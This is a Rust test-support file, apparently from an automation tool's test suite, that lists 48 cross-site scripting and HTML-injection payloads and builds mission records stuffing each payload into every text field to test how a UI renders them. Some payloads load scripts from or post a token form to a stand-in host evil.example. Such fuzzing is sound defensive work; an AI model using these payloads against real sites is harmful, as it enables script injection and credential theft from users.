//! Texts that want to be more than text, and missions that say them: for what shows them to people.

use serde_json::{Value, json};

use crate::automation;
use crate::envelope::with;

/// What would run, or be more than text, somewhere in a page that is put together carelessly.
pub const PAYLOADS: [&str; 48] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onmouseover=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<div style=position:fixed>",
    "<form action=//evil.example><input name=token></form>",
    "<button formaction=//evil.example>x</button>",
    "<input type=hidden name=form_key value=x>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div hx-get=/signout hx-trigger=load></div>",
    "<div hx-on:load=alert(1) data-hx-get=/x></div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onload=&quot;alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

/// A mission that says it wherever a mission can say something.
#[must_use]
pub fn saying(no: usize, payload: &str) -> Value {
    // A name may hold no empty step.
    let name: String = payload.replace("//", "/ /").trim_matches('/').to_owned();
    let steps = json!([
        {"id": "w", "tool": "Write", "with": {"path": "a.txt", "content": payload}, "artifact": {"name": format!("{name}.txt"), "path": "a.txt"}, "milestone": payload},
        {"id": "r", "tool": "Read", "needs": ["w"], "with": {"path": "a.txt"}, "criterion": {"text": payload, "met": "{{ true }}"}},
        {"id": "q", "needs": ["r"], "tool": "ask", "with": {"question": payload}},
    ]);
    let mut envelope = automation(&format!("m{no}"), &steps);
    for (pointer, value) in [
        ("/objective", json!(payload)),
        ("/vp_id", json!(payload)),
        ("/trace_id", json!(payload)),
        ("/source_instance_id", json!(payload)),
        ("/success_criteria", json!([payload])),
        ("/constraints/approval_required", json!(["Write"])),
    ] {
        envelope = with(envelope, pointer, value);
    }
    envelope
}
